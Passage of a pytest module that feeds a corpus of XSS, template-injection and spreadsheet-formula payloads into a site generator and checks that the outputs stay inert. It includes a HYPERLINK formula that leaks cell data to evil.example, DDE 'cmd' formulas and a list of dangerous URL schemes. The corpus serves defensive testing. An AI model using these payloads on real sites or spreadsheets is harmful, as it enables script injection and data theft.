"""A hostile-content corpus: cross-site scripting, template injection and spreadsheet formulas written
into every text field of the content model, built once, and shown inert in every file the build
writes (HTML, JSON-LD, the Atom feed, the open data, the search index) and in a real Chromium, with
the Content-Security-Policy enforced and with it bypassed (so the sanitising itself is proven)."""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import re
from itertools import cycle
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
import icalendar
import lxml.html
import pytest
import yaml
from lxml import etree

from generator import build as build_module
from generator.build import ContentError, build
from generator.opendata import FORMULA_STARTS, spreadsheet_safe
from conftest import _serve, require_browser, write_files

# --- The corpus --------------------------------------------------------------------------------
# (id, payload). Every payload that would run script calls alert(1): the one marker the browser
# test watches for (a dialog, or window.__xss set by the wrapper it installs around alert).
# Payloads holding a line break are Markdown-only (one-line fields refuse line breaks).

VECTORS: list[tuple[str, str]] = [
    # <script> in many spellings
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-attributes", '<script type="text/javascript" defer>alert(1)</script>'),
    ("script-data-src", '<script src="data:text/javascript,alert(1)"></script>'),
    ("script-space-close", "<script>alert(1)</script >"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-slash-attribute", "<script/x>alert(1)</script>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-escaped-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    # event-handler attributes
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", '<IMG SRC="x" ONERROR="alert(1)">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("a-onmouseover", "<a onmouseover=alert(1)>hover me</a>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("noscript-breakout", "</noscript><img src=x onerror=alert(1)>"),
    # javascript:, vbscript: and data: addresses
    ("js-url", "javascript:alert(1)"),
    ("js-url-mixed-case", "JaVaScRiPt:alert(1)"),
    ("js-url-leading-space", "   javascript:alert(1)"),
    ("js-url-leading-control", "\x01javascript:alert(1)"),
    ("js-url-entity-decimal", "&#106;avascript:alert(1)"),
    ("js-url-entity-hex", "&#x6A;avascript:alert(1)"),
    ("js-url-entity-tab", "java&#x09;script:alert(1)"),
    ("js-url-entity-newline", "jav&#x0A;ascript:alert(1)"),
    ("js-url-percent", "javascript%3Aalert(1)"),
    ("vbscript-url", "vbscript:alert(1)"),
    ("data-html-url", "data:text/html,<script>alert(1)</script>"),
    ("data-html-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    # ... in Markdown
    ("md-link-js", "[click](javascript:alert(1))"),
    ("md-link-js-mixed-case", "[click](JaVaScRiPt:alert(1))"),
    ("md-link-js-entity", "[click](&#106;avascript:alert(1))"),
    ("md-link-js-entity-tab", "[click](java&#x09;script:alert(1))"),
    ("md-link-js-entity-newline", "[click](jav&#x0A;ascript:alert(1))"),
    ("md-link-js-angle", "[click](<javascript:alert(1)>)"),
    ("md-link-vbscript", "[click](vbscript:alert(1))"),
    ("md-link-data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-title-breakout", '[click](https://example.org/ "x\\" onmouseover=\\"alert(1)")'),
    ("md-link-protocol-relative", "[click](//evil.example/)"),
    ("md-image-js", "![pic](javascript:alert(1))"),
    ("md-image-onerror", '![x" onerror="alert(1)](https://example.org/x.png)'),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-reference-link", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-reference-link-entity", "[click][evil2]\n\n[evil2]: &#x6A;avascript:alert(1)"),
    ("md-raw-a-href", '<a href="javascript:alert(1)">click</a>'),
    ("md-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
    # SVG
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>"),
    # embedding, forms, document-wide elements
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("style-import", '<style>@import "https://evil.example/x.css";</style>'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("css-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("css-url-js", 'x{background:url("javascript:alert(1)")}'),
    # breaking out of attributes, elements, comments and data blocks
    ("attribute-double-quote", '" onmouseover="alert(1)'),
    ("attribute-single-quote", "' autofocus onfocus='alert(1)"),
    ("attribute-double-quote-tag", '"><script>alert(1)</script>'),
    ("attribute-single-quote-tag", "'><img src=x onerror=alert(1)>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("style-breakout", "</style><script>alert(1)</script>"),
    ("cdata-end", "]]><script>alert(1)</script>"),
    ("json-ld-script-close", "</script><script>alert(1)</script>"),
    ("json-ld-script-close-upper", "</SCRIPT ><script>alert(1)</script>"),
    ("json-ld-comment-open", "<!--<script>alert(1)</script>"),
    ("comment-close", "--><script>alert(1)</script>"),
    ("json-string-breakout", '"}]</script><script>alert(1)</script>'),
    # template syntax (Jinja2, JavaScript template literals)
    ("jinja-expression", "{{ 7*7 }}"),
    ("jinja-raw", "{% raw %}{{ 7*7 }}{% endraw %}"),
    ("js-template-literal", "${7*7}"),
    ("jinja-config", "{{ config }}"),
    ("jinja-class-walk", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja-statement", "{% for x in range(3) %}{{ x }}{% endfor %}"),
    # spreadsheet formulas (CSV injection)
    ("formula-hyperlink", '=HYPERLINK("https://evil.example/?leak="&A1,"click")'),
    ("formula-dde", "+cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3"),
    ("formula-at", "@SUM(1+1)"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    ("formula-dde-equals", "=cmd|' /C notepad'!'A1'"),
    ("formula-space", "  =1+1"),
    # other spellings
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("null-byte-in-tag", "<scr\x00ipt>alert(1)</script>"),
    ("unicode-line-separator", "x\u2028<script>alert(1)</script>\u2029y"),
    ("terminal-escape", "\x1b[31m<script>alert(1)</script>\x1b[0m"),
    ("byte-order-mark-js-url", "\ufeffjavascript:alert(1)"),
    ("xml-noncharacter", "\ufffe<script>alert(1)</script>"),
]
assert len({vector_id for vector_id, _ in VECTORS}) == len(VECTORS) >= 60
assert len({payload for _, payload in VECTORS}) == len(VECTORS)

FORMULAS = [payload for vector_id, payload in VECTORS if vector_id.startswith("formula-")]
# Invisible control characters (written as YAML escapes) are refused by the model, tested below;
# every other vector is built into the site.
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]")
CONTROLS = [payload for _, payload in VECTORS if CONTROL.search(payload)]
BUILT = [(vector_id, payload) for vector_id, payload in VECTORS if payload not in CONTROLS]
# Formulas first, so that they land in fields the CSV starts a cell with (place, province).
ONE_LINE = FORMULAS + [payload for _, payload in BUILT if "\n" not in payload and payload not in FORMULAS]
SITE_URL = "https://example.org/"

# Web addresses must be http(s) (the model refuses every other scheme, tested below), but what
# follows the host is the editor's: quotes, angle brackets and script inside valid addresses.
HOSTILE_ADDRESSES = [
    'https://example.org/a?q="><script>alert(1)</script>',
    "https://example.org/b'onmouseover='alert(1)",
    "https://example.org/c#javascript:alert(1)",
    "https://example.org/d?x=</script><!--<script>alert(1)</script>",
    "http://example.org/e/{{7*7}}/${7*7}",
    "https://example.org/f?=HYPERLINK(%22x%22)&<img/src=x/onerror=alert(1)>",
]
# Refused by the model wherever a web address is expected.
NOT_WEB_ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", "&#106;avascript:alert(1)",
    "java&#x09;script:alert(1)", "jav&#x0A;ascript:alert(1)", "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/", "https:javascript:alert(1)", "https://exa mple.org/", "ftp://example.org/x",
    "java\tscript:alert(1)",
]

N_EVENTS, N_ACTORS, N_TOPICS, N_PLACES, N_SOURCES, N_PAGES = 12, 6, 4, 4, 6, 3


def _dump(data: dict) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1 << 30)


def hostile_records() -> dict:
    """Every record of the hostile content as plain values (before YAML), by kind and id, plus a
    map of which vectors went into which field (kind.field -> vector ids)."""
    by_payload = {payload: vector_id for vector_id, payload in VECTORS}
    placed: dict[str, list[str]] = {}
    lines, blocks = cycle(ONE_LINE), cycle(payload for _, payload in BUILT)

    def one(field: str, payload: str | None = None) -> str:
        payload = payload or next(lines)
        placed.setdefault(field, []).append(by_payload[payload])
        return payload

    def several(field: str, count: int, source=None) -> list[str]:
        chosen: list[str] = []
        while len(chosen) < count:  # distinct, as a list of aliases must be
            payload = next(source or lines)
            if payload.strip() not in {p.strip() for p in chosen}:
                chosen.append(payload)
        placed.setdefault(field, []).extend(by_payload[p] for p in chosen)
        return chosen

    def markdown(field: str, count: int) -> str:
        # Each payload as a paragraph of its own, and once more inside running text.
        chosen = several(field, count, blocks)
        return "\n\n".join(f"{p}\n\nSome *Markdown* text around {p} and a [safe link](https://example.org/)."
                           if "\n" not in p else p for p in chosen) + "\n"

    # Every record also carries its Spanish text (an es: block), as hostile as its English.
    places = {f"place-{n}": {"name": one("place.name"), "province": one("place.province"),
                             **({"latitude": -2.19, "longitude": -79.89} if n % 2 == 0 else {}),
                             "es": {"name": one("place.es.name")}}
              for n in range(N_PLACES)}
    def cited(text: str, *source_ids: str) -> str:  # a summary's citation of its sources
        return text + "\nAs reported [" + "; ".join("@" + i for i in source_ids) + "].\n"

    topics = {f"topic-{n}": {"name": one("topic.name"),
                             "summary": cited(markdown("topic.summary", 4), f"source-{n % N_SOURCES}"),
                             "sources": [{"source": f"source-{n % N_SOURCES}", "note": one("topic.sources.note")}],
                             "es": {"name": one("topic.es.name"),
                                    "summary": cited(markdown("topic.es.summary", 2), f"source-{n % N_SOURCES}")}}
              for n in range(N_TOPICS)}
    sources = {f"source-{n}": {"title": one("source.title"), "publisher": one("source.publisher"),
                               "published": f"2024-02-{n + 1:02d}", "author": one("source.author"),
                               "url": HOSTILE_ADDRESSES[n % len(HOSTILE_ADDRESSES)],
                               "archived_url": HOSTILE_ADDRESSES[(n + 3) % len(HOSTILE_ADDRESSES)],
                               "kind": "wire-agency", "via": one("source.via"), "offline": one("source.offline"),
                               **({"original": f"source-{n - 1}"} if n % 2 else {})}
               for n in range(N_SOURCES)}
    actors = {f"actor-{n}": {"name": one("actor.name"), "kind": ("person", "criminal-group", "media")[n % 3],
                             "role": one("actor.role"), "aliases": several("actor.aliases", 3),
                             "summary": cited(markdown("actor.summary", 3), f"source-{n}"),
                             "sources": [{"source": f"source-{n}", "note": one("actor.sources.note")}],
                             "es": {"name": one("actor.es.name"), "role": one("actor.es.role"),
                                    "summary": cited(markdown("actor.es.summary", 2), f"source-{n}")}}
              for n in range(N_ACTORS)}
    events = {}
    for n in range(N_EVENTS):
        day = f"2024-01-{n + 1:02d}"
        sources_of_event = (f"source-{n % N_SOURCES}", f"source-{(n + 1) % N_SOURCES}")
        events[f"{day}-hostile-{n}"] = {
            "title": one("event.title", (FORMULAS[:3] + [None] * N_EVENTS)[n]),  # formulas: the CSV's title column
            "date": day, "place": f"place-{n % N_PLACES}",
            "actors": [f"actor-{n % N_ACTORS}", f"actor-{(n + 1) % N_ACTORS}"], "topics": [f"topic-{n % N_TOPICS}"],
            "importance": ("major", "notable", "minor")[n % 3],
            "summary": cited(markdown("event.summary", 5), *sources_of_event),
            "sources": [{"source": sources_of_event[0], "note": one("event.sources.note")}, sources_of_event[1]],
            "disputed": one("event.disputed"),
            "corrections": [{"date": "2024-03-01", "what": one("event.corrections.what"),
                             "why": one("event.corrections.why")}],
            "es": {"title": one("event.es.title"), "summary": cited(markdown("event.es.summary", 2), *sources_of_event),
                   "notes": {sources_of_event[0]: one("event.es.notes")}, "disputed": one("event.es.disputed"),
                   "corrections": [{"what": one("event.es.corrections.what"), "why": one("event.es.corrections.why")}]}}
    figures = {f"figure-{n}": {"title": one("figure.title"), "unit": one("figure.unit"),
                               "description": markdown("figure.description", 2), "topics": [f"topic-{n % N_TOPICS}"],
                               "values": [{"date": 2023, "value": 47, "source": f"source-{n % N_SOURCES}",
                                           "note": one("figure.values.note")},
                                          {"date": "2024-01", "value": 3000, "qualifier": "more-than",
                                           "source": f"source-{(n + 1) % N_SOURCES}", "note": one("figure.values.note")},
                                          {"date": "2024-01", "value": 32, "to": 39, "source": f"source-{n % N_SOURCES}"}],
                               "es": {"title": one("figure.es.title"), "unit": one("figure.es.unit"),
                                      "description": markdown("figure.es.description", 2),
                                      "notes": [one("figure.es.notes"), one("figure.es.notes")]}}
               for n in range(N_TOPICS)}
    site = {"title": " ".join(several("site.title", 3)), "description": " ".join(several("site.description", 4)),
            "base_url": SITE_URL, "language": "en", "time_zone": "America/Guayaquil",
            "repository": HOSTILE_ADDRESSES[0], "edit_url": HOSTILE_ADDRESSES[3], "translations": ["es"],
            "es": {"title": " ".join(several("site.es.title", 3)),
                   "description": " ".join(several("site.es.description", 3))}}
    pages = {f"hostile-page-{n}": ({"title": one("page.title"), "description": one("page.description"),
                                    "menu": one("page.menu")}, markdown("page.body", 8))
             for n in range(N_PAGES)}
    pages_es = {f"hostile-page-{n}.es": ({"title": one("page.es.title"), "description": one("page.es.description"),
                                          "menu": one("page.es.menu")}, markdown("page.es.body", 3))
                for n in range(N_PAGES)}
    return {"site": site, "event": events, "actor": actors, "topic": topics, "place": places, "source": sources,
            "figure": figures, "page": pages, "page_es": pages_es, "placed": placed}


def write_hostile_content(root: Path, records: dict) -> Path:
    root.mkdir(parents=True)
    (root / "site.yaml").write_text(_dump(records["site"]), encoding="utf-8")
    for kind in ("event", "actor", "topic", "place", "source", "figure"):
        (root / f"{kind}s").mkdir()
        for record_id, data in records[kind].items():
            (root / f"{kind}s" / f"{record_id}.yaml").write_text(_dump(data), encoding="utf-8")
    (root / "pages").mkdir()
    for page_id, (front, body) in {**records["page"], **records["page_es"]}.items():
        (root / "pages" / f"{page_id}.md").write_text(f"---\n{_dump(front)}---\n{body}", encoding="utf-8",
                                                      newline="")
    return root


# --- The hostile site, built once ----------------------------------------------------------------

class Hostile:
    def __init__(self, records: dict, content: Path, out: Path):
        self.records, self.content, self.out = records, content, out

    def value(self, text: str) -> str:
        """A text as the model keeps it (line and text fields are stripped)."""
        return text.strip()

    def html_files(self) -> list[Path]:
        return sorted(self.out.rglob("*.html"))

    def address(self, path: Path) -> str:
        """A page's address below the site root ("events/x/", "404.html")."""
        relative = path.relative_to(self.out).as_posix()
        return relative.removesuffix("index.html")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Hostile:
    root = tmp_path_factory.mktemp("hostile")
    records = hostile_records()
    content = write_hostile_content(root / "content", records)
    graph, diagnostics = build_module.check(content)
    assert graph is not None and diagnostics.problems == [], diagnostics.problems
    out = root / "_site"
    build(content, out, with_search=True)
    return Hostile(records, content, out)


# --- The corpus reaches every field ----------------------------------------------------------------

def _text_fields() -> set[str]:
    """Every field of the content model that holds an editor's text, as "kind.field"."""
    from generator import model
    tables = {kind: fields for kind, (_, fields) in model.SCHEMAS.items()}
    tables.update(site=model.SITE_FIELDS, page=model.PAGE_FIELDS)
    found = {"page.body"}  # a page's Markdown, after its front matter
    for kind, fields in tables.items():
        for key, spec in fields.items():
            if spec.check in (model.line, model.text) or spec.check.json_schema.get("items") == model.line.json_schema:
                found.add(f"{kind}.{key}")
            elif spec.check is model.citations:
                found.add(f"{kind}.sources.note")
            if spec.translate:  # and its text in the site's other language
                found.add(f"{kind}.es.{key}")
    found |= {"event.es.notes", "page.es.body", "event.corrections.what", "event.corrections.why",
              "event.es.corrections.what", "event.es.corrections.why", "figure.values.note", "figure.es.notes"}
    return found


def test_the_corpus_puts_every_vector_into_every_kind_of_text_field(hostile):
    placed = hostile.records["placed"]
    fields = _text_fields()
    assert {"event.title", "event.summary", "event.sources.note", "actor.name", "actor.aliases", "actor.role",
            "actor.summary", "topic.name", "topic.summary", "place.name", "place.province", "source.title",
            "source.publisher", "source.author", "site.title", "site.description", "page.title",
            "page.description", "page.menu", "page.body"} <= fields
    assert fields <= set(placed), fields - set(placed)
    assert all(len(placed[field]) >= 3 for field in fields), {f: len(placed[f]) for f in fields}
    everywhere = {vector_id for ids in placed.values() for vector_id in ids}
    assert everywhere == {vector_id for vector_id, _ in BUILT}
    # and each one-line vector sits in a one-line field too, not only inside Markdown
    in_lines = {v for field, ids in placed.items()
                if not field.endswith((".summary", ".body", "figure.description", "figure.es.description")) for v in ids}
    assert in_lines == {vector_id for vector_id, payload in BUILT if "\n" not in payload}


def test_invisible_control_characters_are_refused_in_every_kind_of_text(content):
    """XML cannot hold them (one would make the whole feed unreadable), so neither may any text:
    written as YAML escapes in quotes, or straight into a page's Markdown."""
    assert len(CONTROLS) >= 3
    files = {}
    for n, payload in enumerate(CONTROLS):
        files[f"topics/control-{n}.yaml"] = _dump({"name": payload, "summary": payload})
        files[f"pages/control-{n}.md"] = f"---\ntitle: Page {n}\n---\nText {payload}\n"
    write_files(content, files)
    graph, diagnostics = build_module.check(content)
    assert graph is None
    for n, payload in enumerate(CONTROLS):
        code = f"U+{ord(CONTROL.search(payload).group()):04X}"
        topic = sorted(p.message for p in diagnostics.problems if p.location.file.endswith(f"control-{n}.yaml"))
        assert topic == [f"name: the text holds an invisible control character ({code})",
                         f"summary: the text holds an invisible control character ({code})"], payload
        page = [p for p in diagnostics.problems if p.location.file.endswith(f"control-{n}.md")]
        assert [p.message for p in page] == [f"the page holds an invisible control character ({code})"], payload
        assert page[0].location.line == 4


def test_web_addresses_refuse_every_other_scheme(content):
    """Where the model takes a web address, only http(s) with a host passes: a javascript:, vbscript:
    or data: address never reaches a page, however it is spelled."""
    files = {}
    for n, address in enumerate(NOT_WEB_ADDRESSES):
        files[f"sources/bad-{n}.yaml"] = _dump({"title": "A source", "publisher": "AP", "published": "2024-01-10",
                                                "url": address, "archived_url": address})
    write_files(content, files)
    graph, diagnostics = build_module.check(content)
    assert graph is None
    for n, address in enumerate(NOT_WEB_ADDRESSES):
        messages = sorted(p.message for p in diagnostics.problems if p.location.file.endswith(f"bad-{n}.yaml"))
        why = (f"the text holds an invisible control character (U+{ord(CONTROL.search(address).group()):04X})"
               if CONTROL.search(address) else f"'{address.strip()}' is not a web address")
        assert messages == [f"archived_url: {why}", f"url: {why}"], (address, messages)
    for address in NOT_WEB_ADDRESSES:
        write_files(content, {"site.yaml": _dump({"title": "T", "description": "D", "base_url": address,
                                                  "repository": address, "edit_url": address})})
        graph, diagnostics = build_module.check(content)
        assert graph is None
        assert sorted(p.message.split(":")[0] for p in diagnostics.problems
                      if p.location.file.endswith("site.yaml")) == ["base_url", "edit_url", "repository"], address
    with pytest.raises(ContentError):
        build(content, content.parent / "never-written", with_search=False)
    assert not (content.parent / "never-written").exists()


# --- HTML: nothing active, everything shown as text ------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset", "ping",
                  "cite", "longdesc", "codebase", "manifest", "xlink:href", "lowsrc", "dynsrc"}
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "img", "video",
                      "audio", "source", "math", "textarea", "marquee", "noscript", "template"}
# (<details> and <svg> are the site's own, in the home page's overview; their attributes are checked.)
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
CSP = ("default-src 'self'; script-src 'self'{}; style-src 'self'; img-src 'self' data:; object-src 'none'; "
       "base-uri 'self'; form-action 'self'")


def url_scheme_is_bad(value: str) -> bool:
    """Whether a browser would read the address as javascript:, vbscript: or data:, however spelled:
    entities decoded (once more than the parser did), spaces and control characters dropped, any case."""
    decoded = html.unescape(value)
    squeezed = "".join(c for c in decoded if ord(c) > 0x20 and c not in "\x7f\ufeff").lower()
    return squeezed.startswith(BAD_SCHEMES)


def active_content(root, own_prefix: str = "/") -> list[str]:
    """Everything in a parsed HTML tree that could run script or load what the site did not make."""
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions
        tag = element.tag.rsplit("}", 1)[-1].lower()
        attributes = {name.rsplit("}", 1)[-1].lower(): value for name, value in element.attrib.items()}
        where = f"<{tag} {attributes}>"
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"event handler {name} in {where}")
            if (name in URL_ATTRIBUTES or name.endswith(":href")) and url_scheme_is_bad(value):
                found.append(f"{name} address in {where}")
            if name == "srcdoc":
                found.append(f"srcdoc in {where}")
            if name == "style":
                found.append(f"style attribute in {where}")
        if tag in FORBIDDEN_ELEMENTS:
            found.append(f"element {where}")
        if tag == "script":
            own = attributes.get("type") == "application/ld+json" and "src" not in attributes or (
                attributes.get("src", "").startswith(own_prefix + "static/") and not (element.text or "").strip())
            if not own:
                found.append(f"script {where} {element.text!r}")
        if tag == "meta" and "http-equiv" in attributes:
            if attributes["http-equiv"].lower() != "content-security-policy":
                found.append(f"meta {where}")
        if tag == "link" and attributes.get("rel", "").lower() in ("stylesheet", "icon", "preload", "import",
                                                                   "modulepreload", "prefetch"):
            if not attributes.get("href", "").startswith(own_prefix + "static/"):
                found.append(f"link {where}")
        if tag in ("form", "button", "input") and attributes.get("action", own_prefix).startswith(("http", "//")):
            found.append(f"form to elsewhere {where}")
        if tag == "svg" and any(child.tag.rsplit("}", 1)[-1].lower() in ("script", "animate", "set", "foreignobject",
                                                                        "use", "animatetransform", "animatemotion")
                                for child in element.iter()):
            found.append(f"svg with active parts {where}")
    return found


TAG = re.compile(r"""<([A-Za-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>""")
ATTRIBUTE = re.compile(r"""([^\s"'>/=]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?""")


def handlers_in_tags(text: str) -> list[str]:
    """Tags in the raw text with an on... attribute: a second check beside lxml, whose parser
    (libxml2) drops what browsers keep, such as the attributes of a second <body> tag."""
    return [tag.group(0) for tag in TAG.finditer(text)
            if any(name.group(1).lower().startswith("on") for name in ATTRIBUTE.finditer(tag.group(2)))]


def parse_html(path: Path):
    return lxml.html.document_fromstring(path.read_bytes(), parser=lxml.html.HTMLParser(encoding="utf-8"))


def active_content_in(text: str) -> list[str]:
    root = lxml.html.document_fromstring(text.encode("utf-8"), parser=lxml.html.HTMLParser(encoding="utf-8"))
    return active_content(root) + handlers_in_tags(text)


def test_no_html_page_holds_anything_that_could_run(hostile):
    pages = hostile.html_files()
    assert len(pages) >= 35
    for path in pages:
        root = parse_html(path)
        assert active_content_in(path.read_text(encoding="utf-8")) == [], path
        policies = root.xpath("//meta[@http-equiv]")
        assert len(policies) == 1 and policies[0].getparent().tag == "head", path
        search = path.relative_to(hostile.out).as_posix() in ("search/index.html", "es/search/index.html")
        assert policies[0].get("content") == CSP.format(" 'wasm-unsafe-eval'" if search else ""), path
        own_scripts = [s.get("src") for s in root.iter("script") if s.get("src")]
        assert all((hostile.out / src.lstrip("/")).is_file() for src in own_scripts), path


def test_the_active_content_check_catches_what_it_looks_for():
    """The checker above, fed the payloads as live HTML, finds every one that is markup: so a
    clean result means something."""
    not_markup = {"script-nested", "null-byte-in-tag", "json-ld-comment-open"}  # filter bypasses; inert as they stand
    live = [payload for vector_id, payload in VECTORS if "<" in payload and not vector_id.startswith(("md-", "fullwidth"))
            and vector_id not in not_markup]
    assert len(live) >= 40
    for payload in live:
        assert active_content_in(f"<!doctype html><html><head></head><body><p>{payload}</p></body></html>"), payload
    for address in ("javascript:alert(1)", " JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", "&#106;avascript:x",
                    "java&#x09;script:x", "jav&#x0A;ascript:x", "java\nscript:x", "\ufeffjavascript:x", "vbscript:x",
                    "DATA:text/html,x"):
        assert url_scheme_is_bad(address), address
    assert not any(url_scheme_is_bad(a) for a in ("https://example.org/javascript:x", "/events/x/", "#data:x"))


def as_parsed(text: str) -> str:
    """A text as an HTML parser reads it back: line breaks normalised to LF, NUL replaced."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")


def test_every_text_is_shown_as_written(hostile):
    """Escaped, not dropped: each record's page shows its title or name exactly as the editor wrote it,
    and the browser's title bar gets it too."""
    site_title = hostile.value(hostile.records["site"]["title"])
    shown = 0
    for kind, folder, key in (("event", "events", "title"), ("actor", "actors", "name"), ("topic", "topics", "name"),
                              ("place", "places", "name")):
        for record_id, data in hostile.records[kind].items():
            root = parse_html(hostile.out / folder / record_id / "index.html")
            expected = hostile.value(data[key])
            assert root.xpath("string(//h1)") == as_parsed(expected), (record_id, data[key])
            assert root.xpath("string(//title)") == as_parsed(f"{expected} · {site_title}")
            shown += 1
    for page_id, (front, _) in hostile.records["page"].items():
        root = parse_html(hostile.out / page_id / "index.html")
        assert root.xpath("string(//h1)") == as_parsed(hostile.value(front["title"]))
        assert root.xpath("string(//meta[@name='description']/@content)") == as_parsed(
            hostile.value(front["description"]))
        menu = [a.text_content() for a in root.xpath("//nav[@class='site-nav']//a")]
        assert as_parsed(hostile.value(front["menu"])) in menu
        shown += 1
    assert shown == N_EVENTS + N_ACTORS + N_TOPICS + N_PLACES + N_PAGES


def test_figures_and_the_map_show_every_text_as_written(hostile):
    """A figure's title, unit and notes, and a place's name on the map, escaped and shown whole."""
    root = parse_html(hostile.out / "figures" / "index.html")
    for figure_id, data in hostile.records["figure"].items():
        figure = root.xpath(f"//figure[@id='figure-{figure_id}']")[0]
        title, unit = as_parsed(hostile.value(data["title"])), as_parsed(hostile.value(data["unit"]))
        assert figure.xpath("string(.//h2)") == title
        assert figure.xpath("string(.//svg/title)") == f"{title} ({unit})"
        notes = [note.text_content() for note in figure.xpath(".//td/span[@class='note']")]
        assert notes == [as_parsed(hostile.value(value["note"])) for value in data["values"] if "note" in value]
    places = parse_html(hostile.out / "places" / "index.html")
    on_map = sorted(link.get("aria-label") for link in places.xpath("//svg//a"))
    mapped = [place for place in hostile.records["place"].values() if "latitude" in place]
    assert len(on_map) == len(mapped)
    assert all(any(label.startswith(as_parsed(hostile.value(place["name"])) + ": ") for label in on_map)
               for place in mapped)


def test_template_syntax_is_never_evaluated(hostile):
    templated = [payload for vector_id, payload in VECTORS if "7*7" in payload or "{{" in payload or "{%" in payload]
    assert len(templated) >= 5
    found = {payload: 0 for payload in templated}
    for path in hostile.html_files():
        text = parse_html(path).xpath("string(/html)")
        assert "49" not in text, path  # what {{ 7*7 }} and ${7*7} would have made
        for payload in templated:
            found[payload] += text.count(payload.strip())
    assert all(found.values()), found  # each appears literally somewhere


# --- Structured data, feed, sitemap ------------------------------------------------------------------

JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)


def test_json_ld_cannot_close_its_script_and_keeps_every_text(hostile):
    site = hostile.records["site"]
    blocks = 0
    for path in hostile.html_files():
        raw = path.read_text(encoding="utf-8")
        for text in JSON_LD.findall(raw):
            assert "<" not in text and ">" not in text, path  # \u003c, so no </script, <!-- or <script
            assert not re.search(r"</script|<!--|-->", text, re.I), path
            data = json.loads(text)
            blocks += 1
            address = hostile.address(path)
            spanish = address.startswith("es/") or address == "es"
            address = address.removeprefix("es/")  # the Spanish edition's blocks hold its own texts
            if address.startswith("events/"):
                event = hostile.records["event"][address.split("/")[1]]
                assert data["name"] == hostile.value((event["es"] if spanish else event)["title"])
                sources = [c["source"] if isinstance(c, dict) else c for c in event["sources"]]
                assert [a["headline"] for a in data["citation"]] == [
                    hostile.value(hostile.records["source"][s]["title"]) for s in sources]
                assert [a.get("url") for a in data["citation"]] == [
                    hostile.records["source"][s]["url"] for s in sources]
            elif address.startswith("actors/"):
                actor = hostile.records["actor"][address.split("/")[1]]
                assert data["name"] == hostile.value((actor["es"] if spanish else actor)["name"])
                assert data["alternateName"] == [hostile.value(a) for a in actor["aliases"]]
            elif address == "":
                texts = site["es"] if spanish else site
                assert (data["name"], data["description"]) == (hostile.value(texts["title"]),
                                                              hostile.value(texts["description"]))
        assert len(JSON_LD.findall(raw)) == raw.count("<script type=\"application/ld+json\">"), path
    assert blocks == 2 * (N_EVENTS + N_ACTORS + 1)  # in both editions


def as_xml_reads(text: str) -> str:
    """A text as an XML parser reads it back: line breaks come back as LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _inner_markup(element) -> str:
    """An XML element's content as it is written in the file (escaped), without its own tags."""
